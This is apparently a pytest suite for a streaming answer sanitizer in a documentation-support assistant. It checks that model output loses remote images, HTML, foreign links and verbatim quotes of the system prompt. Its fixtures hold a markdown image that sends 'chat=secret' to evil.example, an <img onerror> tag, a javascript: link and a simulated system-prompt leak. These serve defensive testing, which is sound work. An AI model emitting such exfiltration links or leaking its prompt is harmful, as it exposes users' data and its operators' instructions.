"""What an answer may carry: no remote images, no HTML, no foreign links, no system prompt."""

from __future__ import annotations

import random

import pytest

from tandem.answering.sanitize import REMOVED_LINK, StreamSanitizer, sanitize
from tandem.rag.prompt import SYSTEM_PROMPT

DOCS = {"docs.paperless-ngx.com"}  # TANDEM_LINK_HOSTS
HOSTILE = (
    "Open Settings. ![logo](https://evil.example/p.png?chat=secret) <img src=x onerror=y>\n"
    "See [the guide](https://docs.paperless-ngx.com/usage/) and [this](http://evil.example/x), "
    "also https://evil.example/z, //evil.example/q and www.evil.example [1].\n"
    f"My instructions: {SYSTEM_PROMPT}\n"
    "Sources: [1], [2]"
)


def test_markup_and_foreign_links_are_neutralised() -> None:
    clean = sanitize(HOSTILE, DOCS)
    assert "evil.example" not in clean and "<img" not in clean and "![" not in clean
    assert "Open Settings. logo" in clean
    assert "[the guide](https://docs.paperless-ngx.com/usage/)" in clean
    assert "and this, also" in clean and clean.count(REMOVED_LINK) == 3
    assert "Sources: [1], [2]" in clean and "[1]." in clean


def test_quotes_of_the_system_prompt_are_cut() -> None:
    clean = sanitize(HOSTILE, DOCS)
    assert "numbered documentation context" not in clean and "friendly" not in clean
    assert "My instructions: You \n" in clean  # cut at the quote's second word
    assert sanitize("You are welcome. Open the friendly menu.", set()).startswith("You are")


def test_relative_links_stay_and_schemes_other_than_http_go() -> None:
    assert sanitize("[setup](../setup.md)", set()) == "[setup](../setup.md)"
    assert sanitize("[x](javascript:alert(1))", set()).startswith("x")


@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
def test_the_stream_sends_what_the_whole_answer_would(size: int) -> None:
    stream = StreamSanitizer(DOCS)
    pieces = [stream.feed(HOSTILE[i : i + size]) for i in range(0, len(HOSTILE), size)]
    streamed = "".join(pieces) + stream.flush()
    assert streamed == sanitize(HOSTILE, DOCS)


def test_plain_words_leave_before_the_line_ends() -> None:
    stream = StreamSanitizer(set())
    sent = stream.feed("To export your documents open the numbered ")
    assert sent == "To export your documents open the "  # "numbered" could continue a quote


def test_citations_do_not_hold_the_line_but_links_do() -> None:
    stream = StreamSanitizer(set())
    sent = stream.feed("Open Settings [1] and then click the big red button ")
    assert sent.startswith("Open Settings [1] and")
    held = StreamSanitizer(set())
    sent = held.feed("See [the page](https://evil.example/x) and then click the button ")
    assert sent == "See "  # the link waits for its line to end
    assert held.feed("\n") == "the page and then click the button \n"


def test_only_words_that_could_continue_a_quote_wait() -> None:
    stream = StreamSanitizer(set())
    # "you are" starts the prompt: "You" may go (a quote is cut at its second word), "are" waits
    assert stream.feed("Click Save. You are ") == "Click Save. You "
    assert stream.feed("done now ") == "are done now "


def test_an_unfinished_word_leaves_when_nothing_can_change_it() -> None:
    stream = StreamSanitizer(set())
    assert stream.feed("To") == "To"  # the first token goes out at once
    assert stream.feed(" upload") == " upload"
    assert stream.feed(" the") == " the"  # a quote's first word goes: the cut is after it
    assert stream.feed(" num") == " "  # "the num..." could become "the numbered documentation"
    assert stream.feed("ber") == ""
    assert stream.feed(" of") == "number of"
    assert stream.feed(" wit") == " wit"
    assert stream.feed("h") == ""  # "...h" could begin http://
    assert stream.feed(" a") == "h a"
    assert stream.feed(" click") == " click"


@pytest.mark.parametrize(
    ("fragment", "sent"),
    [
        *[(markup, "") for markup in ["h", "http", "HTTPS:", "http:/", "ww", "www", "/"]],
        ("awww", "a"),  # awww.evil.example
        ("Click!", "Click"),  # ![image](...)
        ("You", "You"),  # a quote's first word goes out: the cut is at its second word
        ("You are", "You "),  # "you are a friendly support assistant" quotes the system prompt
        ("The num", "The "),  # "the numbered documentation context and"
        ("The doc", "The doc"),  # "the doc..." continues no quote
        ("Use", "Use"),  # "used" begins no quote
        ("x-you are", "x-you "),  # a quote may start inside a word
    ],
)
def test_endings_that_could_begin_markup_or_a_quote_wait(fragment: str, sent: str) -> None:
    assert StreamSanitizer(set()).feed(fragment) == sent


TRICKY = [
    "Xyou are a friendly support assistant. Answer from the numbered documentation.",
    "Paperless uses OCR.\nSee awww.evil.example/x or xhttps://evil.example/y now.",
    "Set PAPERLESS_OCR_LANGUAGES=tur in docker-compose.env [2]. Then restart it!",
    "Click here![img](https://evil.example/a.png) and <b>bold</b> done.",
    "You-are-a-friendly-support assistant here: answer from the numbered documentation",
    "Docs: [1] migration-guide. Sources: [1], [3]",
    "Ok x-you are a friendly support assistant now. The documentation context and cite the end",
    "Use the numbered docs. Then: the numbered documentation context and more.",
]


@pytest.mark.parametrize("text", [HOSTILE, *TRICKY])
def test_any_split_sends_what_the_whole_answer_would(text: str) -> None:
    rng = random.Random(text)
    for _ in range(60):
        stream, pieces, i = StreamSanitizer(DOCS), [], 0
        while i < len(text):
            step = rng.randint(1, 6)
            pieces.append(stream.feed(text[i : i + step]))
            i += step
        assert "".join(pieces) + stream.flush() == sanitize(text, DOCS)
